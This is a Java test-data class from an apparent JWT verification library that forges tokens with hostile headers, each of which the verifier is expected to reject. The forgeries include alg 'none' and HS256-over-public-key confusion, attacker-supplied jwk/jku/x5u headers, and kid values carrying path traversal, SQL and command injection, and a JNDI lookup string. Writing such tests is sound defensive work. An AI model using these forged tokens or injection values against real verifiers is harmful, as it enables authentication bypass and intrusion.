package dev.latchkey.token;

import static dev.latchkey.key.KeyAlgorithm.EdDSA;
import static dev.latchkey.key.KeyAlgorithm.PS256;
import static dev.latchkey.key.KeyAlgorithm.RS256;
import static dev.latchkey.token.ForgedToken.encode;
import static dev.latchkey.token.ForgedToken.good;
import static dev.latchkey.token.ForgedToken.quote;
import static org.junit.jupiter.params.provider.Arguments.arguments;

import dev.latchkey.key.KeyAlgorithm;
import dev.latchkey.key.SigningKey;
import dev.latchkey.key.SigningKeys;
import dev.latchkey.key.TestKeys;
import java.nio.charset.StandardCharsets;
import java.security.GeneralSecurityException;
import java.util.Base64;
import java.util.function.Function;
import java.util.stream.Stream;
import javax.crypto.Mac;
import javax.crypto.spec.SecretKeySpec;
import org.jose4j.jwk.PublicJsonWebKey;
import org.jose4j.lang.JoseException;
import org.junit.jupiter.params.provider.Arguments;

/** Tokens whose header lies: what it is, the token, why it has to be refused. */
final class HostileHeaders {

    private static final String MEMBERS = "header members are not alg, kid and typ";
    private static final String ALGORITHM = "not the algorithm of this key";
    private static final String STRING = "alg or kid is not a string";
    private static final String UNKNOWN = "no key has this kid";
    private static final String TYPE = "not an access token";
    private static final String JSON = "not one JSON object without repeated members";

    private HostileHeaders() {}

    /** Standards A-09, A-10. */
    static Stream<Arguments> algorithms() {
        Stream<Arguments> foreign = Stream.of(
                        "none", "None", "NONE", "nOnE", "HS256", "HS384", "HS512", "RS256", "PS256", "ES384", "EdDSA",
                        "es256", "")
                .map(alg -> arguments(
                        "A-10 alg " + alg, good().header("alg", quote(alg)).sign(), ALGORITHM));
        Stream<Arguments> unsigned = Stream.of("none", "NONE")
                .map(alg -> arguments(
                        "A-10 unsigned " + alg,
                        good().header("alg", quote(alg))
                                .signature(s -> new byte[0])
                                .sign(),
                        "not canonical base64url"));
        return Stream.concat(
                Stream.concat(foreign, unsigned),
                Stream.of(
                        arguments("A-10 alg absent", good().withoutHeader("alg").sign(), MEMBERS),
                        arguments("A-10 alg null", good().header("alg", "null").sign(), STRING),
                        arguments(
                                "A-10 alg array",
                                good().header("alg", "[\"ES256\"]").sign(),
                                STRING),
                        arguments(
                                "A-10 HS256 over the public JWK",
                                hmac(TestTokens.bean(SigningKeys.class).signing()),
                                ALGORITHM)));
    }

    /** Standards A-09: signed with a key of ours in an algorithm of ours, but not in that of the key. */
    static Stream<Arguments> confusions() {
        return Stream.of(
                arguments("A-09 PS256 with an RS256 key", confused(RS256, PS256), ALGORITHM),
                arguments("A-09 RS256 with a PS256 key", confused(PS256, RS256), ALGORITHM),
                arguments("A-09 PSS under the name RS256", misnamed(RS256, PS256), "wrong signature"),
                arguments("A-09 PKCS #1 under the name PS256", misnamed(PS256, RS256), "wrong signature"),
                arguments("A-10 HS256 over an RS256 key's JWK", hmac(TestKeys.addRetiring(RS256)), ALGORITHM),
                arguments("A-10 HS256 over an RS256 key in DER", hmac(RS256, HostileHeaders::der), ALGORITHM),
                arguments("A-10 HS256 over an RS256 key in PEM", hmac(RS256, HostileHeaders::pem), ALGORITHM),
                arguments("A-10 HS256 over an EdDSA key's JWK", hmac(TestKeys.addRetiring(EdDSA)), ALGORITHM));
    }

    private static String confused(KeyAlgorithm own, KeyAlgorithm other) {
        SigningKey key = TestKeys.addRetiring(own);
        return good().header("alg", quote(other))
                .header("kid", quote(key.kid()))
                .signer(message -> TestKeys.signAs(other, key, message))
                .sign();
    }

    private static String misnamed(KeyAlgorithm own, KeyAlgorithm other) {
        SigningKey key = TestKeys.addRetiring(own);
        return good().header("alg", quote(own))
                .header("kid", quote(key.kid()))
                .signer(message -> TestKeys.signAs(other, key, message))
                .sign();
    }

    /** Standards A-01, A-11, A-12: keys and instructions that the token brings along. */
    static Stream<Arguments> extensions() {
        SigningKey attacker = TestKeys.unknown();
        String jwk = attacker.verificationKey().publicJwk();
        return Stream.of(
                arguments(
                        "A-11 jwk",
                        good().header("jwk", jwk).signedWith(attacker).sign(),
                        MEMBERS),
                arguments(
                        "A-11 jwk in place of kid",
                        good().withoutHeader("kid")
                                .header("jwk", jwk)
                                .signedWith(attacker)
                                .sign(),
                        MEMBERS),
                arguments(
                        "A-11 jku",
                        good().header("jku", quote(OutboundSpy.BAIT.url("/jwks")))
                                .sign(),
                        MEMBERS),
                arguments(
                        "A-11 x5u",
                        good().header("x5u", quote(OutboundSpy.BAIT.url("/cert")))
                                .sign(),
                        MEMBERS),
                arguments(
                        "A-11 jku in place of kid",
                        good().withoutHeader("kid")
                                .header("jku", quote(OutboundSpy.BAIT.url("/jwks")))
                                .signedWith(attacker)
                                .sign(),
                        MEMBERS),
                arguments("A-11 x5c", good().header("x5c", "[\"MIIB\"]").sign(), MEMBERS),
                arguments("A-11 x5t", good().header("x5t#S256", "\"AAAA\"").sign(), MEMBERS),
                arguments(
                        "A-12 crit unknown", good().header("crit", "[\"exp\"]").sign(), MEMBERS),
                arguments("A-12 crit empty", good().header("crit", "[]").sign(), MEMBERS),
                arguments(
                        "A-12 crit standard", good().header("crit", "[\"alg\"]").sign(), MEMBERS),
                arguments(
                        "A-12 b64",
                        good().header("crit", "[\"b64\"]")
                                .header("b64", "false")
                                .sign(),
                        MEMBERS),
                arguments("A-12 b64 alone", good().header("b64", "false").sign(), MEMBERS),
                arguments("A-01 zip", good().header("zip", "\"DEF\"").sign(), MEMBERS),
                arguments("A-01 cty", good().header("cty", "\"JWT\"").sign(), MEMBERS));
    }

    /** Standards K-07, A-16. */
    static Stream<Arguments> names() {
        Stream<Arguments> kids = Stream.of(
                        "",
                        "unknown",
                        "../../../../dev/null",
                        "/etc/passwd",
                        "' OR 1=1 --",
                        OutboundSpy.BAIT.url("/key"),
                        "${jndi:ldap://" + OutboundSpy.BAIT.authority() + "/a}",
                        "key\\u0000.pem",
                        "*)(kid=*",
                        "| id",
                        "k".repeat(4000))
                .map(kid -> arguments(
                        "K-07 kid " + kid.substring(0, Math.min(20, kid.length())),
                        good().header("kid", quote(kid)).sign(),
                        UNKNOWN));
        Stream<Arguments> types = Stream.of(
                        "JWT", "AT+JWT", "application/at+jwt", "logout+jwt", "dpop+jwt", "secevent+jwt", "")
                .map(typ -> arguments(
                        "A-16 typ " + typ, good().header("typ", quote(typ)).sign(), TYPE));
        return Stream.concat(
                Stream.concat(kids, types),
                Stream.of(
                        arguments(
                                "K-07 kid missing", good().withoutHeader("kid").sign(), MEMBERS),
                        arguments("K-07 kid a number", good().header("kid", "1").sign(), STRING),
                        arguments(
                                "K-07 kid 10 KB",
                                good().header("kid", quote("k".repeat(10_000))).sign(),
                                "too long"),
                        arguments(
                                "A-16 typ missing", good().withoutHeader("typ").sign(), MEMBERS),
                        arguments("A-16 typ null", good().header("typ", "null").sign(), TYPE),
                        arguments("A-14 alg twice", duplicate("\"alg\":\"ES256\""), JSON),
                        arguments("A-14 alg and an escaped alg", duplicate("\"\\u0061lg\":\"none\""), JSON),
                        arguments("A-14 kid twice", duplicate("\"kid\":\"x\""), JSON)));
    }

    private static String duplicate(String member) {
        ForgedToken token = good();
        return token.sign("{" + member + "," + token.headerJson().substring(1), token.claimsJson());
    }

    /** The classic confusion: the public key, which everybody has, as the secret. */
    private static String hmac(SigningKey key) {
        return hmac(key, key.verificationKey().publicJwk().getBytes(StandardCharsets.UTF_8));
    }

    private static String hmac(KeyAlgorithm algorithm, Function<SigningKey, byte[]> form) {
        SigningKey key = TestKeys.addRetiring(algorithm);
        return hmac(key, form.apply(key));
    }

    private static byte[] der(SigningKey key) {
        try {
            return PublicJsonWebKey.Factory.newPublicJwk(key.verificationKey().publicJwk())
                    .getPublicKey()
                    .getEncoded();
        } catch (JoseException e) {
            throw new IllegalStateException(e);
        }
    }

    private static byte[] pem(SigningKey key) {
        String base64 = Base64.getMimeEncoder(64, new byte[] {'\n'}).encodeToString(der(key));
        return ("-----BEGIN PUBLIC KEY-----\n" + base64 + "\n-----END PUBLIC KEY-----\n")
                .getBytes(StandardCharsets.US_ASCII);
    }

    private static String hmac(SigningKey key, byte[] secret) {
        ForgedToken token = good().header("alg", "\"HS256\"").header("kid", quote(key.kid()));
        String input = encode(token.headerJson()) + "." + encode(token.claimsJson());
        try {
            Mac mac = Mac.getInstance("HmacSHA256");
            mac.init(new SecretKeySpec(secret, "HmacSHA256"));
            return input + "." + encode(mac.doFinal(input.getBytes(StandardCharsets.US_ASCII)));
        } catch (GeneralSecurityException e) {
            throw new IllegalStateException(e);
        }
    }
}
